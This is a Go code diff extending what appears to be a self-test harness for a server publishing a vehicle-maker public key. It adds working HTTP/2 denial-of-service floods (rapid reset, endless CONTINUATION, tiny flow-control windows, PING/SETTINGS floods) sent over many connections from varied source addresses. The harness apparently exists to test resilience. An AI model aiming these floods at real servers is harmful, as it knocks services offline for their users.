@@ -6,6 +6,7 @@ import (
 	"crypto/tls"
 	"errors"
 	"fmt"
+	"net"
 	"slices"
 	"strings"
 	"sync"
@@ -14,134 +15,210 @@ import (
 	"golang.org/x/net/http2"
 	"golang.org/x/net/http2/hpack"
 	"golang.org/x/sync/errgroup"
+
+	"wellkey/internal/pause"
 )
+
+// A flooding is what attackers do on connections of HTTP/2.
+type flooding struct {
+	conns  int
+	window uint32                        // with which each stream begins
+	unread bool                          // the answers wait until nothing more goes in
+	again  bool                          // one that was ended, or turned away, is followed by another
+	after  time.Duration                 // how long after that
+	from   func(n int) (from, to string) // nil: each from an address or IPv6 /64 of its own
+	do     func(context.Context, *flooded) error
+}
 
 // http2Attacks returns floods of frames, each over some connections at a time.
 func http2Attacks(o options, span time.Duration) []attack {
-	frames := o.few(10_000)
+	frames, windows := o.few(10_000), max(200, o.few(800))
 	var all []attack
-	for _, one := range []struct {
-		name  string
-		conns int
-		flood func(*flooded) error
-	}{
-		{fmt.Sprintf("h2 rapid reset: %d requests taken back at once, 10 times", frames), 10, func(f *flooded) error {
-			return f.repeat(frames, func(n int) error {
-				if err := f.headers(uint32(2*n+1), true); err != nil {
-					return err
-				}
-				return f.framer.WriteRSTStream(uint32(2*n+1), http2.ErrCodeCancel)
-			})
-		}},
-		{"h2 CONTINUATION without end, 10 times", 10, func(f *flooded) error {
-			if err := f.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.block("GET")}); err != nil {
+	add := func(name string, f flooding) {
+		if f.window == 0 {
+			f.window = 1
+		}
+		all = append(all, attack{name: name, do: func(ctx context.Context, t *aim) (string, error) { return flood(ctx, t, span, f) }})
+	}
+	add(fmt.Sprintf("h2 rapid reset: %d requests taken back at once, on 10 connections, again and again", frames), flooding{conns: 10, again: true, do: func(_ context.Context, f *flooded) error {
+		return f.repeat(frames, func(n int) error {
+			if err := f.headers(uint32(2*n+1), true); err != nil {
 				return err
 			}
-			more := f.field("x-more", strings.Repeat("a", 8<<10))
-			return f.repeat(frames, func(int) error { return f.framer.WriteContinuation(1, false, more) })
-		}},
-		{fmt.Sprintf("h2 with windows of one byte, %d connections with 32 requests each", max(200, o.few(800))), max(200, o.few(800)), func(f *flooded) error {
-			return f.repeat(32, func(n int) error { return f.headers(uint32(2*n+1), true) })
-		}},
-		{fmt.Sprintf("h2 PING flood: %d, 10 times, answers unread", 100_000), 10, func(f *flooded) error {
-			return f.repeat(100_000, func(int) error { return f.framer.WritePing(false, [8]byte{1}) })
-		}},
-		{fmt.Sprintf("h2 SETTINGS flood: %d, 10 times, answers unread", 100_000), 10, func(f *flooded) error {
-			return f.repeat(100_000, func(int) error { return f.framer.WriteSettings() })
-		}},
-		{fmt.Sprintf("h2 empty DATA: %d, 10 times", frames), 10, func(f *flooded) error {
-			if err := f.headers(1, false); err != nil {
-				return err
-			}
-			return f.repeat(frames, func(int) error { return f.framer.WriteData(1, false, nil) })
-		}},
-		{fmt.Sprintf("h2 PRIORITY flood: %d, 10 times", frames), 10, func(f *flooded) error {
-			return f.repeat(frames, func(n int) error {
-				return f.framer.WritePriority(uint32(2*n+1), http2.PriorityParam{Weight: 1})
-			})
-		}},
-	} {
-		all = append(all, attack{one.name, func(ctx context.Context, t *aim) (string, error) {
-			return flood(ctx, t, one.conns, span, strings.Contains(one.name, "unread"), one.flood)
+			return f.framer.WriteRSTStream(uint32(2*n+1), http2.ErrCodeCancel)
+		})
+	}})
+	add("h2 CONTINUATION without end, on 10 connections, again and again", flooding{conns: 10, again: true, do: func(_ context.Context, f *flooded) error {
+		if err := f.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.request()}); err != nil {
+			return err
+		}
+		more := f.field("x-more", strings.Repeat("a", 8<<10))
+		return f.repeat(frames, func(int) error { return f.framer.WriteContinuation(1, false, more) })
+	}})
+	add(fmt.Sprintf("h2 with windows of one byte, %d connections with 32 requests each", windows), flooding{conns: windows, do: func(_ context.Context, f *flooded) error {
+		return f.repeat(32, func(n int) error { return f.headers(uint32(2*n+1), true) })
+	}})
+	for _, unread := range []bool{true, false} {
+		answers := map[bool]string{true: "unread", false: "read"}[unread]
+		add("h2 PING flood on 10 connections, answers "+answers, flooding{conns: 10, unread: unread, do: pings})
+		add("h2 SETTINGS flood on 10 connections, answers "+answers, flooding{conns: 10, unread: unread, do: func(_ context.Context, f *flooded) error {
+			return f.repeat(mostFrames, func(int) error { return f.framer.WriteSettings() })
 		}})
 	}
+	add(fmt.Sprintf("h2 empty DATA: %d, 10 times", frames), flooding{conns: 10, do: func(_ context.Context, f *flooded) error {
+		if err := f.headers(1, false); err != nil {
+			return err
+		}
+		return f.repeat(frames, func(int) error { return f.framer.WriteData(1, false, nil) })
+	}})
+	add(fmt.Sprintf("h2 PRIORITY flood: %d, 10 times", frames), flooding{conns: 10, do: func(_ context.Context, f *flooded) error {
+		return f.repeat(frames, func(n int) error {
+			return f.framer.WritePriority(uint32(2*n+1), http2.PriorityParam{Weight: 1})
+		})
+	}})
 	return all
+}
+
+// mostFrames is how many go over a connection that takes all of them.
+const mostFrames = 100_000
+
+// pings sends PINGs.
+func pings(_ context.Context, f *flooded) error {
+	return f.repeat(mostFrames, func(int) error { return f.framer.WritePing(false, [8]byte{1}) })
+}
+
+// behindAttacks returns what clients do to a wellkey that has an application behind it:
+// it must bear what that takes, such as answers that come late.
+func behindAttacks(o options, span time.Duration) []attack {
+	asking := max(1000, o.few(2048)) // more than it holds in so little memory
+	return []attack{
+		{name: fmt.Sprintf("with an application: h2 with windows of 0, %d connections from 8 addresses that ask for the key, and again", asking), app: true,
+			do: func(ctx context.Context, t *aim) (string, error) {
+				return flood(ctx, t, span, flooding{conns: asking, again: true, after: 2 * time.Second,
+					from: func(n int) (from, to string) { return source(2*(n%8), false) },
+					do: func(ctx context.Context, f *flooded) error {
+						return f.repeat(mostFrames, func(n int) error {
+							if err := f.headers(uint32(2*n+1), true); err != nil {
+								return err
+							}
+							return pause.For(ctx, 3*time.Second) // so that they overlap
+						})
+					}})
+			}},
+		{name: "with an application: h2 PING flood on 256 connections from 2 addresses, answers unread", app: true,
+			do: func(ctx context.Context, t *aim) (string, error) {
+				return flood(ctx, t, span/2, flooding{conns: 256, window: 1, unread: true,
+					from: func(n int) (from, to string) { return source(2*(n%2), false) }, do: pings})
+			}},
+	}
 }
 
 // A flooded is one connection of HTTP/2.
 type flooded struct {
 	conn   *tls.Conn
 	framer *http2.Framer
-	block2 bytes.Buffer
+	coded  bytes.Buffer
 	coder  *hpack.Encoder
 	until  time.Time
+	wrote  int // frames, or pairs of them
 }
 
 // away is how a connection ended that was never secure.
 const away = "turned away"
 
-// flood makes connections of HTTP/2 with windows of a byte and floods each. It tells
-// how they ended.
-func flood(ctx context.Context, t *aim, conns int, span time.Duration, unread bool, do func(*flooded) error) (string, error) {
+// flood makes connections of HTTP/2 and floods each. It tells how they ended, and how
+// much was written.
+func flood(ctx context.Context, t *aim, span time.Duration, f flooding) (string, error) {
 	var mu sync.Mutex
 	ends := map[string]int{}
+	wrote := 0
 	var all errgroup.Group
-	for n := range conns {
+	from := f.from
+	if from == nil {
+		from = func(n int) (string, string) { return source(n%100_000, false) }
+	}
+	until := time.Now().Add(span)
+	for n := range f.conns {
 		all.Go(func() error {
-			from, to := source(n, false)
-			conn, err := t.secure(ctx, from, to, "h2")
-			if err != nil {
-				if !turnedAway(err) {
+			for left := span; left > 0; n += f.conns {
+				source, to := from(n)
+				end, frames, err := f.one(ctx, t, source, to, left)
+				if err != nil {
 					return err
 				}
 				mu.Lock()
-				defer mu.Unlock()
-				ends[away]++ // it lost its place, or did not get a turn
-				return nil
+				ends[end]++
+				wrote += frames
+				mu.Unlock()
+				if !f.again {
+					return nil
+				}
+				if err := pause.For(ctx, f.after); err != nil {
+					return err
+				}
+				left = time.Until(until)
 			}
-			defer func() { _ = conn.Close() }() // it is closed already, or not wanted
-			f := &flooded{conn: conn, framer: http2.NewFramer(conn, conn), until: time.Now().Add(span)}
-			f.coder = hpack.NewEncoder(&f.block2)
-			_ = conn.SetDeadline(f.until)
-			_, err = conn.Write([]byte(http2.ClientPreface))
-			if err == nil {
-				err = f.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1})
-			}
-			said := make(chan string, 1)
-			if !unread {
-				go func() { said <- f.listen() }()
-			}
-			if err == nil {
-				err = do(f)
-			}
-			if unread && err == nil { // the answers wait until nothing more goes in
-				go func() { said <- f.listen() }()
-			} else if unread {
-				said <- ""
-			}
-			end := <-said
-			switch {
-			case end != "":
-			case err != nil && ended(err) && time.Now().Before(f.until):
-				end = "closed"
-			case err != nil && !ended(err):
-				return err
-			default:
-				end = "open to the end"
-			}
-			mu.Lock()
-			defer mu.Unlock()
-			ends[end]++
 			return nil
 		})
 	}
-	err := errors.Join(all.Wait(), enough("flooded", int64(conns-ends[away]), conns))
+	err := all.Wait()
+	made := 0
 	var text []string
 	for end, n := range ends {
 		text = append(text, fmt.Sprintf("%d %s", n, end))
+		if end != away {
+			made += n
+		}
 	}
 	slices.Sort(text)
-	return strings.Join(text, ", "), err
+	return fmt.Sprintf("%d written; %s", wrote, strings.Join(text, ", ")), errors.Join(err, enough("flooded", int64(made), f.conns))
+}
+
+// one makes one connection and floods it, for span. It returns how it ended, and how much
+// was written.
+func (f *flooding) one(ctx context.Context, t *aim, from, to string, span time.Duration) (end string, frames int, err error) {
+	conn, err := t.secure(ctx, from, to, "h2")
+	if err != nil {
+		if !turnedAway(err) {
+			return "", 0, err
+		}
+		return away, 0, nil // it lost its place, or did not get a turn
+	}
+	defer hangUp(conn)
+	// What was written has then been read, but for a little.
+	if err := conn.NetConn().(*net.TCPConn).SetWriteBuffer(16 << 10); err != nil {
+		return "", 0, err
+	}
+	one := &flooded{conn: conn, framer: http2.NewFramer(conn, conn), until: time.Now().Add(span)}
+	one.coder = hpack.NewEncoder(&one.coded)
+	_ = conn.SetDeadline(one.until)
+	_, err = conn.Write([]byte(http2.ClientPreface))
+	if err == nil {
+		err = one.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: f.window})
+	}
+	said := make(chan string, 1)
+	if !f.unread {
+		go func() { said <- one.listen() }()
+	}
+	if err == nil {
+		err = f.do(ctx, one)
+	}
+	if f.unread && err == nil { // the answers wait until nothing more goes in
+		go func() { said <- one.listen() }()
+	} else if f.unread {
+		said <- ""
+	}
+	end = <-said
+	switch {
+	case end != "":
+	case err != nil && ended(err) && time.Now().Before(one.until):
+		end = "closed"
+	case err != nil && !ended(err):
+		return "", 0, err
+	default:
+		end = "open to the end"
+	}
+	return end, one.wrote, nil
 }
 
 // listen reads until the connection ends, and returns how that was announced, ""
@@ -163,33 +240,34 @@ func (f *flooded) listen() string {
 	}
 }
 
-// repeat does something n times, or until it fails.
-func (f *flooded) repeat(n int, do func(n int) error) error {
+// repeat writes something n times, or until that fails.
+func (f *flooded) repeat(n int, write func(n int) error) error {
 	for i := range n {
-		if err := do(i); err != nil {
+		if err := write(i); err != nil {
 			return err
 		}
+		f.wrote++
 	}
 	return nil
 }
 
 // headers begins a request for the key.
 func (f *flooded) headers(stream uint32, end bool) error {
-	return f.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: f.block("GET"), EndHeaders: true, EndStream: end})
+	return f.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: f.request(), EndHeaders: true, EndStream: end})
 }
 
-// block returns the fields of a request for the key.
-func (f *flooded) block(method string) []byte {
-	f.block2.Reset()
-	for _, field := range [][2]string{{":method", method}, {":scheme", "https"}, {":authority", domain}, {":path", "/.well-known/appspecific/com.tesla.3p.public-key.pem"}} {
+// request returns the fields of a request for the key.
+func (f *flooded) request() []byte {
+	f.coded.Reset()
+	for _, field := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", domain}, {":path", "/.well-known/appspecific/com.tesla.3p.public-key.pem"}} {
 		_ = f.coder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]}) // into memory
 	}
-	return slices.Clone(f.block2.Bytes())
+	return bytes.Clone(f.coded.Bytes())
 }
 
 // field returns one field.
 func (f *flooded) field(name, value string) []byte {
-	f.block2.Reset()
+	f.coded.Reset()
 	_ = f.coder.WriteField(hpack.HeaderField{Name: name, Value: value, Sensitive: true}) // into memory
-	return slices.Clone(f.block2.Bytes())
+	return bytes.Clone(f.coded.Bytes())
 }
